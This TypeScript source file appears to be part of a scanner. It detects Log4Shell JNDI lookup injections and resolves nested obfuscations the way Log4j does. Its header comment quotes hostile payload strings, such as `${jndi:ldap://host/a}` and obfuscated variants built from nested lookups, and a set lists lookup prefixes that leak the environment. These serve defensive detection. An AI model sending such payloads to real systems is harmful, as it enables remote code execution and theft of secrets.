/**
 * Log4j lookups (Log4Shell, CVE-2021-44228): `${jndi:ldap://host/a}` makes a vulnerable logger fetch and run
 * a remote class. Attackers spell the lookup name with nested lookups that Log4j resolves first:
 * `${${::-j}${::-n}di:...}`, `${${lower:J}ndi:...}`, `${${env:NOPE:-j}ndi:...}`, `${${date:'j'}ndi:...}`. We
 * resolve them the way Log4j does (inner lookups first, `:-` defaults, lower/upper, quoted date literals) with
 * one stack pass, then look at what each outer lookup names. Written by hand: no library evaluates lookups
 * without running them. Linear: every character is copied into at most one frame, whose text is bounded, and
 * the nesting depth is bounded.
 */
import { RULES } from './rules.js';
import { finding, tok, type Finding, type Level } from './types.js';
import { work } from './work.js';

const MAX_DEPTH = 16;
const FRAME_MAX = 256;

/** Lookup prefixes Log4j (2.x) resolves: reading one leaks the environment even without jndi. */
const PREFIXES = new Set(['env', 'sys', 'java', 'main', 'ctx', 'docker', 'k8s', 'spring', 'log4j', 'web', 'bundle', 'marker',
  'sd', 'map', 'event', 'jvmrunargs', 'base64', 'date', 'lower', 'upper', 'jndi']);

/** What a resolved lookup body turns into: its default, its case-folded argument, or nothing. */
function resolve(body: string): { text: string; prefix: string } {
  const colon = body.indexOf(':');
  const prefix = (colon < 0 ? body : body.slice(0, colon)).trim().toLowerCase();
  const rest = colon < 0 ? '' : body.slice(colon + 1);
  if (prefix === 'jndi') return { text: `jndi:${rest}`, prefix };
  const dflt = body.indexOf(':-');
  if (dflt >= 0) return { text: body.slice(dflt + 2), prefix };
  if (prefix === 'lower') return { text: rest.toLowerCase(), prefix };
  if (prefix === 'upper') return { text: rest.toUpperCase(), prefix };
  if (prefix === 'date') return { text: rest.replace(/'([^']*)'/g, '$1').replace(/^['"]|['"]$/g, ''), prefix };
  return { text: '', prefix };
}

export function detectJndi(value: string, level: Level): Finding | undefined {
  const first = value.indexOf('${');
  if (first < 0) return undefined;
  const texts: string[] = [];
  const starts: number[] = [];
  const nested: boolean[] = [];
  let depth = 0;
  let prefixSeen = -1;
  work.units += value.length;
  for (let i = first; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c === 36 && value.charCodeAt(i + 1) === 123) {
      if (depth >= MAX_DEPTH) return undefined;
      if (depth > 0) nested[depth - 1] = true;
      texts[depth] = '';
      starts[depth] = i;
      nested[depth] = false;
      depth++;
      i++;
      continue;
    }
    if (depth === 0) continue;
    if (c === 125) {
      depth--;
      const body = texts[depth] as string;
      const { text, prefix } = resolve(body);
      const lowered = body.toLowerCase();
      if (lowered.startsWith('jndi:')) {
        const start = starts[depth] as number;
        const rule = nested[depth] ? RULES.jndiNested : RULES.jndiLookup;
        return finding(rule, start, i + 1, [tok(value, start, Math.min(i + 1, start + 40)), `jndi:${lowered.slice(5, 29)}`]);
      }
      if (prefixSeen < 0 && PREFIXES.has(prefix) && prefix !== 'lower' && prefix !== 'upper' && prefix !== 'date') prefixSeen = starts[depth] as number;
      if (depth > 0 && (texts[depth - 1] as string).length < FRAME_MAX) texts[depth - 1] += text;
      continue;
    }
    if ((texts[depth - 1] as string).length < FRAME_MAX) texts[depth - 1] += value[i] as string;
  }
  // A lookup that was never closed still names what it would fetch: "${jndi:ldap://x" cut by a length limit.
  for (let d = 0; d < depth; d++) {
    const at = starts[d] as number;
    if ((texts[d] as string).toLowerCase().startsWith('jndi:')) return finding(RULES.jndiLookup, at, value.length, [tok(value, at, value.length)]);
  }
  if (level >= 2 && prefixSeen >= 0) return finding(RULES.jndiLookupOther, prefixSeen, prefixSeen + 8, [tok(value, prefixSeen, prefixSeen + 12)]);
  return undefined;
}
